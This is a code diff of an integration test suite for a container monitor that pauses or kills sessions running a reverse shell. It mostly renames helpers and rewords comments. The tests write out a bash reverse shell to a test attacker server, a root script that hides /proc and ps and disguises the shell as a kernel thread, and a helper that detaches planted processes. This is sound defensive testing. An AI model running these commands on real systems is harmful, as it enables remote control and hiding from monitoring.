@@ -1,6 +1,6 @@
-// Goal: a watched session that is taken over stands still within seconds, its owner is told why and lets it go or loses
-// it; and a session that only works is never stopped.
-// Method: real containers under a coid of their own; the attacker is a server of the test on the bridge.
+// Goal: a monitored session under attack is paused within seconds, its owner gets the reason and resumes it or loses
+// it; and a session that only works is never paused.
+// Method: real containers with a private coid; the attacker is a server of the test on the bridge.
 import assert from 'node:assert/strict';
 import { spawn } from 'node:child_process';
 import { writeFileSync } from 'node:fs';
@@ -9,20 +9,20 @@ import { connect } from 'node:net';
 import { join } from 'node:path';
 import { test } from 'node:test';
 import { findCgroups } from '../../src/host/proc/cgroups.ts';
-import { verified } from '../../src/monitor/audit.ts';
+import { verifyLines } from '../../src/monitor/audit.ts';
 import { defaultSettings, type MonitorSettings } from '../../src/monitor/settings.ts';
-import { pace } from '../bed/pace.ts';
-import { type CoidBed, coidBed } from '../incus/coid-bed.ts';
-import { attacker } from './attacker.ts';
+import { slowdown } from '../bed/slowdown.ts';
+import { type CoidBed, makeCoidBed } from '../incus/coid-bed.ts';
+import { startAttacker } from './attacker.ts';
 import { untilAudited } from './audited.ts';
 
 const limit = { timeout: 180_000 };
 
-function watched(settings: Partial<MonitorSettings> = {}) {
+function monitorConfig(settings: Partial<MonitorSettings> = {}) {
   return { 'user.coi.monitor': JSON.stringify({ ...defaultSettings, ...settings }) };
 }
 
-/** Starts it in the background, away from the exec that starts it. */
+/** Starts it in the background, detached from the exec that starts it. */
 function plant({ sh }: CoidBed, container: string, command: string) {
   return sh(container, `setsid sh -c '${command}' >/dev/null 2>&1 </dev/null &`);
 }
@@ -32,7 +32,7 @@ async function auditLines(bed: CoidBed, container: string): Promise<string[]> {
   return [...lines];
 }
 
-/** As root: nothing is left of /proc and ps, and the shell calls itself a thread of the kernel. Prints how many processes are seen. */
+/** As root: /proc and ps are hidden, and the shell has the name of a kernel thread. Prints the number of visible processes. */
 const hiddenShell = (gateway: string, port: number) => `
 cp /bin/true /bin/ps; mount -t tmpfs none /proc
 cat > /tmp/hidden <<'end'
@@ -45,44 +45,46 @@ const shell = (gateway: string, port: number) =>
   `bash -c "bash -i >& /dev/tcp/${gateway}/${port} 0>&1"`;
 
 test(
-  'a reverse shell is paused within three seconds, explained, and goes on when it is let go',
+  'a reverse shell is paused within three seconds, explained, and runs again after unfreeze',
   limit,
   async () => {
-    await using bed = await coidBed();
-    await using remote = await attacker();
-    const { container, nic } = await bed.session({ config: watched({ killGraceMs: 60_000 }) });
+    await using bed = await makeCoidBed();
+    await using remote = await startAttacker();
+    const { container, nic } = await bed.session({
+      config: monitorConfig({ killGraceMs: 60_000 }),
+    });
     await untilWatched(bed, container);
     await plant(bed, container, shell(nic.gateway, remote.port));
     const socket = await remote.connected;
     const started = performance.now();
     await bed.lifecycle.until('instance-paused', container);
     const tookMs = performance.now() - started;
-    assert.ok(tookMs < 3000 * (await pace()), `paused after ${Math.round(tookMs)} ms`);
+    assert.ok(tookMs < 3000 * (await slowdown()), `paused after ${Math.round(tookMs)} ms`);
     const found = await bed.incus.instance(container);
     assert.equal(found?.instance.status, 'Frozen');
     await bed.lifecycle.until('instance-updated', container);
     const lines = await auditLines(bed, container);
     const records = lines.map((line) => JSON.parse(line));
     const paused = records.filter(({ action }) => action === 'paused');
-    const said = paused.map(({ title, description }) => `${title}: ${description}`).join(' ');
-    assert.match(said, /reverse shell/i);
-    assert.match(said, new RegExp(`${nic.gateway}:${remote.port}`));
-    assert.deepEqual(verified(lines).problems, []);
+    const result = paused.map(({ title, description }) => `${title}: ${description}`).join(' ');
+    assert.match(result, /reverse shell/i);
+    assert.match(result, new RegExp(`${nic.gateway}:${remote.port}`));
+    assert.deepEqual(verifyLines(lines).problems, []);
     const answered = new Promise<void>((resolve) => socket.once('data', () => resolve()));
     const operation = await bed.incus.changeState(container, { action: 'unfreeze' });
     await operation.wait({ timeoutMs: 30_000 });
     socket.write('id\n');
     await answered;
-    // It is written down, and the same finding does not pause again.
+    // It is logged, and the same finding does not pause again.
     await untilAction(bed, container, 'unfrozen');
     assert.equal(await bed.status(container), 'Running');
   },
 );
 
-test('a container that nobody lets go of is killed, with evidence kept', limit, async () => {
-  await using bed = await coidBed();
-  await using remote = await attacker();
-  const { container, nic } = await bed.session({ config: watched({ killGraceMs: 1000 }) });
+test('a container that is not resumed in time is killed, with evidence kept', limit, async () => {
+  await using bed = await makeCoidBed();
+  await using remote = await startAttacker();
+  const { container, nic } = await bed.session({ config: monitorConfig({ killGraceMs: 1000 }) });
   await untilWatched(bed, container);
   await plant(bed, container, shell(nic.gateway, remote.port));
   await bed.lifecycle.until('instance-deleted', container);
@@ -94,17 +96,17 @@ test('a container that nobody lets go of is killed, with evidence kept', limit, 
 });
 
 test(
-  'a session that is not watched is not touched by a shell; in a watched one it cannot be hidden',
+  'an unmonitored session is not affected by a shell; in a monitored one it cannot be hidden',
   limit,
   async () => {
-    await using bed = await coidBed();
-    await using remote = await attacker();
-    const watchedOne = await bed.session({ config: watched({ killGraceMs: 60_000 }) });
+    await using bed = await makeCoidBed();
+    await using remote = await startAttacker();
+    const watchedOne = await bed.session({ config: monitorConfig({ killGraceMs: 60_000 }) });
     const other = await bed.session();
     await untilWatched(bed, watchedOne.container);
     await plant(bed, other.container, shell(other.nic.gateway, remote.port));
     await remote.connected;
-    // Both are looked at in the same rounds: when the watched one is paused, the other one had its chance.
+    // Both are sampled in the same rounds: once the monitored one is paused, the other one had its chance.
     const hidden = await bed.sh(
       watchedOne.container,
       hiddenShell(watchedOne.nic.gateway, remote.port),
@@ -116,10 +118,10 @@ test(
   },
 );
 
-test('a container under load stands still within a moment of the sample', limit, async () => {
-  await using bed = await coidBed();
-  await using remote = await attacker();
-  const { container, nic } = await bed.session({ config: watched({ killGraceMs: 60_000 }) });
+test('a container under load is paused shortly after the sample', limit, async () => {
+  await using bed = await makeCoidBed();
+  await using remote = await startAttacker();
+  const { container, nic } = await bed.session({ config: monitorConfig({ killGraceMs: 60_000 }) });
   await untilWatched(bed, container);
   await plant(bed, container, 'while :; do (true); done');
   await plant(
@@ -132,17 +134,17 @@ test('a container under load stands still within a moment of the sample', limit,
   const started = performance.now();
   await bed.lifecycle.until('instance-paused', container);
   const tookMs = performance.now() - started;
-  // Up to two seconds until the sample, and one and a half from there on.
-  assert.ok(tookMs < 3500 * (await pace()), `paused after ${Math.round(tookMs)} ms`);
+  // Up to two seconds until the sample, and one and a half after it.
+  assert.ok(tookMs < 3500 * (await slowdown()), `paused after ${Math.round(tookMs)} ms`);
 });
 
 test(
-  "a program on its way into the container is still in the host's network: what that holds is not the container's",
+  "the host's open files of a program that is entering the container are not attributed to it",
   limit,
   async () => {
-    await using bed = await coidBed();
-    await using onHost = await attacker();
-    await using fromInside = await attacker();
+    await using bed = await makeCoidBed();
+    await using onHost = await startAttacker();
+    await using fromInside = await startAttacker();
     const { container, nic } = await bed.session();
     const outside = connect(onHost.port, nic.gateway);
     await onHost.connected;
@@ -165,7 +167,7 @@ test(
   },
 );
 
-/** What builds, packers and package managers do is in test/image/ordinary-work.test.ts. */
+/** Builds, packers and package managers are tested in test/image/ordinary-work.test.ts. */
 const ordinaryWork: Readonly<Record<string, string>> = {
   'many short processes at once':
     'seq 1 400 | xargs -P 32 -n 1 sh -c "sort /etc/passwd > /dev/null"',
@@ -176,9 +178,9 @@ const ordinaryWork: Readonly<Record<string, string>> = {
     'for i in 1 2 3; do timeout 1 bash -c "echo > /dev/tcp/127.0.0.1/5432" || true; done',
 };
 
-test('ordinary work is never stopped and raises no alarm', { timeout: 400_000 }, async () => {
-  await using bed = await coidBed();
-  const { container, nic } = await bed.session({ config: watched() });
+test('ordinary work is never paused and raises no alert', { timeout: 400_000 }, async () => {
+  await using bed = await makeCoidBed();
+  const { container, nic } = await bed.session({ config: monitorConfig() });
   await untilWatched(bed, container);
   for (const [name, script] of Object.entries(ordinaryWork)) {
     const done = await bed.sh(container, script);
@@ -195,7 +197,7 @@ test('ordinary work is never stopped and raises no alarm', { timeout: 400_000 },
   assert.equal(await bed.status(container), 'Running');
 });
 
-/** A visitor from the host, as a browser on a development server. */
+/** A client from the host, like a browser on a development server. */
 function visit(host: string, port: number): Promise<void> {
   return new Promise((resolve, reject) => {
     const socket = connect(port, host, () => socket.end('GET / HTTP/1.0\r\n\r\n'));
@@ -207,7 +209,7 @@ function visit(host: string, port: number): Promise<void> {
   });
 }
 
-/** Resolves when coid wrote down that it watches. */
+/** Resolves when coid has logged that it monitors the session. */
 function untilWatched(bed: CoidBed, container: string): Promise<unknown> {
   return untilAction(bed, container, 'watch-started');
 }
